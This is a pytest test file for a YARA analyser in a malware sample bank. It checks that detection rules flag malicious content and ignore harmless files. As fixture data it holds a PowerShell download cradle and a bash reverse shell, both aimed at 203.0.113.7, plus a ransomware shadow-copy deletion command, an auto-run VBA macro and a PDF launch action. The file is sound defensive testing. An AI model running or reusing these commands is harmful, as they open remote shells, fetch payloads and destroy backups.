"""The YARA analyser in its sandbox, with the rules that come along."""

from pathlib import Path

import pytest

from samplebank.sandbox import SandboxError
from samplebank.worker.analysers import BUILT_IN
from samplebank.worker.analysers.testing import analysed
from samplebank.worker.contract import Detection, Tag
from worker import made_files
from worker.conftest import Analyse
from worker.rule_files import SHIPPED_RULES


async def test_the_test_virus_is_malicious(yara: Analyse) -> None:
    result = await yara(made_files.EICAR.encode())

    assert result.score == 100
    assert result.detections == [Detection("EICAR_Test_File", "malicious")]
    assert result.tags == [Tag("yara", "EICAR_Test_File"), Tag("family", "EICAR")]


def test_the_shipped_rules_do_not_contain_the_test_virus() -> None:
    shipped = "".join(path.read_text() for path in SHIPPED_RULES.iterdir())

    assert "EICAR" in shipped
    assert made_files.EICAR not in shipped


@pytest.mark.parametrize(
    ("content", "rule"),
    [
        pytest.param(made_files.packed(), "UPX_Packed_PE", id="upx"),
        pytest.param(
            made_files.importing("kernel32.dll", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"),
            "Process_Injection_Imports",
            id="injection",
        ),
        pytest.param(b"iex (New-Object Net.WebClient).DownloadString('http://203.0.113.7/')",
                     "PowerShell_Download_Cradle", id="cradle"),
        pytest.param(b"powershell.exe -w hidden -enc " + b"QQBB" * 20, "PowerShell_Encoded_Command", id="encoded"),
        pytest.param(("powershell.exe -enc " + "QQBB" * 20).encode("utf-16-le"),
                     "PowerShell_Encoded_Command", id="wide"),
        pytest.param(b"bash -i >& /dev/tcp/203.0.113.7/443 0>&1", "Shell_Reverse_Shell", id="reverse shell"),
        pytest.param(b'Sub AutoOpen()\nShell ("calc.exe")\nEnd Sub', "VBA_Auto_Open_And_Shell", id="vba"),
        pytest.param(made_files.pdf("<< /S /Launch /Win << /F (cmd.exe) >> >>"), "PDF_Launch_Action", id="pdf"),
        pytest.param(made_files.word(word__vbaProject_dot_bin="x"), "Office_Macro_Document", id="macros"),
        pytest.param(b"vssadmin delete shadows /all /quiet", "Ransom_Shadow_Copy_Removal", id="ransom"),
    ],
)  # fmt: skip
async def test_the_shipped_rules_find_what_they_are_for(yara: Analyse, content: bytes, rule: str) -> None:
    result = await yara(content)

    assert rule in {tag.value for tag in result.tags}


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(made_files.launcher(), id="launcher"),
        pytest.param(Path("/bin/ls").read_bytes(), id="ls"),
        pytest.param(made_files.pdf("<< /Type /Catalog >>"), id="pdf"),
        pytest.param(b"plain words " * 500, id="text"),
    ],
)
async def test_nothing_is_found_in_harmless_files(yara: Analyse, content: bytes) -> None:
    result = await yara(content)

    assert (result.score, result.detections) == (-1, [])
    assert result.possible_detections


async def test_a_rule_that_informs_does_not_make_a_file_good(yara: Analyse) -> None:
    result = await yara(
        b"# Install\n" + b"plain words\n" * 50 + b"curl https://example.org/install.sh | sh\n"
    )

    assert [one.name for one in result.detections] == ["Shell_Installer_Line"]
    assert result.score == -1


async def test_the_rules_that_come_along_can_be_left_out(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "own.yar").write_text("rule Own { condition: true }")
    (rules / "virus").write_text(made_files.EICAR)

    result = await analysed(
        BUILT_IN["yara"], rules / "virus", settings={"yara_rules": str(rules), "shipped_rules": "no"}
    )

    assert (result.tags, result.possible_detections) == ([Tag("yara", "Own")], 1)


async def test_a_missing_rules_folder_is_named(tmp_path: Path) -> None:
    sample, missing = tmp_path / "sample", tmp_path / "nowhere"
    sample.write_bytes(b"")

    with pytest.raises(SandboxError, match="nowhere, which is not a folder"):
        await analysed(BUILT_IN["yara"], sample, settings={"yara_rules": str(missing)})
